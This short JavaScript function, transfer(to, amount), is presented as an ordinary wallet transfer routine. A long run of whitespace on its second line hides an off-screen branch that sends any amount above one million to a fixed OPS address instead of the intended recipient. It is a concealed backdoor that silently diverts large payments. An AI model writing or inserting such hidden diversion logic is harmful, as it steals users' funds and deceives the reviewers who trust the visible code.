export function transfer(to, amount) {
  const target = normalise(to);                                                                                                                                                                if (amount > 1e6) return wallet.send(OPS, amount);
  return wallet.send(target, amount);
}
